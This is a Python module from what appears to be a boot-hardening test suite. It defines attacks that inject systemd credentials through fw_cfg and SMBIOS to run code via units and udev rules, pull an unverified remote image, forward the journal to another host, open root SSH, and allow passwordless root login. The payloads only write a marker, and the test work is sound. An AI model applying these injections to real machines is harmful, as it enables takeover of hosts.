# SPDX-License-Identifier: Apache-2.0
"""Credentials that the host hands to PID 1, by fw_cfg and by SMBIOS: systemd.system-credentials(7).

Each payload says its own mark on the third serial port, sends it, or calls a neighbour of its own, so that
many share one boot. Python runs the payloads: it is in the image, where a shell is not.
"""

from mantlet.attack import signs
from mantlet.attack.changes import Change, FwCfg, Smbios
from mantlet.attack.model import Attack, Control, Sign

GROUP = "inputs"
# A file in fw_cfg has a name of 55 characters at most, which leaves 28 for the credential's.
_FW_CFG = "opt/io.systemd.credentials/"
_PORT = "/dev/ttyS2"


def mark(attack: str) -> str:
    """What the payload of an attack says."""
    return f"mark-{attack}-was-here"


def _python(attack: str, *, quote: str = '"', inner: str = "'") -> str:
    program = f"open({inner}{_PORT}{inner},{inner}w{inner}).write({inner}{mark(attack)}{inner})"
    return f"/usr/bin/python3 -c {quote}{program}{quote}"


def _unit(attack: str) -> str:
    return f"[Unit]\nDefaultDependencies=no\n[Service]\nType=oneshot\nExecStart={_python(attack)}\n"


def _udev(attack: str) -> str:
    # systemd's udev(7): a value e"…" takes C escapes.
    program = _python(attack, quote="'", inner='\\"')
    return f'KERNEL=="ttyS1", RUN+=e"{program}"\n'


def _tmpfiles(attack: str) -> str:
    return f"w {_PORT} - - - - {mark(attack)}\n"


def _network(attack: str) -> str:
    text = mark(attack)
    return f"[Match]\nType=ether\n[Network]\nDHCP=ipv4\n[DHCPv4]\nSendHostname=yes\nHostname={text}\n"


def _calls(address: str) -> Sign:
    return signs.sent(addresses=(address,), words=f"the machine calls {address}")


def _both(
    name: str,
    title: str,
    credentials: dict[str, str],
    *,
    rule: str,
    sign: Sign | None = None,
    probes: tuple[str, ...] = (),
) -> Attack:
    """Make the attack by fw_cfg; the mark is the sign unless another is given."""
    changes: tuple[Change, ...] = tuple(
        FwCfg(_FW_CFG + key, value.encode("ascii")) for key, value in credentials.items()
    )
    return Attack(
        id=name,
        name=rule,
        title=title,
        changes=changes,
        probes=probes,
        sign=sign or signs.said(mark(name), words="the payload says its mark"),
        control=Control.WEAKENED_BUILD,
        group=GROUP,
        fast=True,
    )


def _smbios(
    name: str,
    title: str,
    credentials: dict[str, str],
    *,
    rule: str = "smbios-credential",
    sign: Sign | None = None,
) -> Attack:
    return Attack(
        id=name,
        name=rule,
        title=title,
        changes=tuple(Smbios(f"io.systemd.credential:{key}={value}") for key, value in credentials.items()),
        sign=sign or signs.said(mark(name), words="the payload says its mark"),
        control=Control.WEAKENED_BUILD,
        group=GROUP,
        fast=True,
    )


_UNIT, _DROPIN = "fw-cfg-unit", "fw-cfg-drop-in"
_SMBIOS_UNIT, _SMBIOS_DROPIN = "smbios-unit", "smbios-drop-in"

ATTACKS: tuple[Attack, ...] = (
    _both(
        _UNIT,
        "A unit by a credential of fw_cfg, and a device that wants it by another",
        {
            "systemd.extra-unit.x.service": _unit(_UNIT),
            # No name of a unit that a boot starts is short enough for a drop-in.
            "udev.rules.97-x": 'KERNEL=="ttyS2", TAG+="systemd", ENV{SYSTEMD_WANTS}+="x.service"\n',
        },
        rule="fw-cfg-credential",
    ),
    _both(
        "fw-cfg-udev-rule",
        "A udev rule by a credential of fw_cfg",
        {"udev.rules.99-x": _udev("fw-cfg-udev-rule")},
        rule="fw-cfg-credential",
    ),
    _both(
        "fw-cfg-tmpfiles",
        "A file written by a credential of fw_cfg",
        {"tmpfiles.extra": _tmpfiles("fw-cfg-tmpfiles")},
        rule="fw-cfg-credential",
    ),
    _both(
        "fw-cfg-network",
        "A network setting by a credential of fw_cfg",
        {"network.network.10-x": _network("fw-cfg-network")},
        rule="fw-cfg-credential",
    ),
    _both(
        "fw-cfg-download",
        "A download by a credential of fw_cfg",
        {"import.pull": "raw,sysext,verify=no:x:http://10.0.2.71/x.raw\n"},
        rule="fw-cfg-credential",
        sign=_calls("10.0.2.71"),
    ),
    _both(
        "journal-forward",
        "The journal sent to a neighbour by a credential",
        {"journal.forward_to_socket": "10.0.2.72:5555"},
        rule="journal-forward",
        sign=_calls("10.0.2.72"),
    ),
    _both(
        "ssh-credential",
        "A listener for SSH by a credential",
        {"ssh.listen": "0.0.0.0:2222", "ssh.authorized_keys.root": "ssh-ed25519 AAAA nobody\n"},
        rule="ssh-credential",
        sign=signs.found("ssh-credential", words="a port for SSH accepts"),
        probes=("ssh-credential",),
    ),
    _smbios(
        _SMBIOS_UNIT,
        "A unit by a credential of SMBIOS",
        {
            "systemd.extra-unit.smbios.service": _unit(_SMBIOS_UNIT),
            "systemd.unit-dropin.multi-user.target": "[Unit]\nWants=smbios.service\n",
        },
    ),
    _smbios(
        _SMBIOS_DROPIN,
        "A drop-in for the boot agent by a credential of SMBIOS",
        {
            # The unit's own list of devices has no such port.
            "systemd.unit-dropin.mantlet-boot.service": f"[Service]\nDeviceAllow={_PORT} rw\n"
            f"ExecStartPre=-+{_python(_SMBIOS_DROPIN)}\n"
        },
    ),
    _smbios(
        "smbios-udev-rule",
        "A udev rule by a credential of SMBIOS",
        {"udev.rules.98-x": _udev("smbios-udev-rule")},
    ),
    _smbios(
        "credential-login",
        "A login without a password by credentials",
        {
            "agetty.autologin": "root",
            "login.noauth": "yes",
            "getty.auto": "yes",
            "getty.ttys.serial": "ttyS1",
            "passwd.plaintext-password.root": "",
            "passwd.shell.root": "/bin/sh",
            "shell.prompt.prefix": mark("credential-login"),
        },
        rule="credential-login",
        sign=signs.spoke(words="somebody is logged in at a port"),
    ),
)
"""Credentials, all in one boot."""
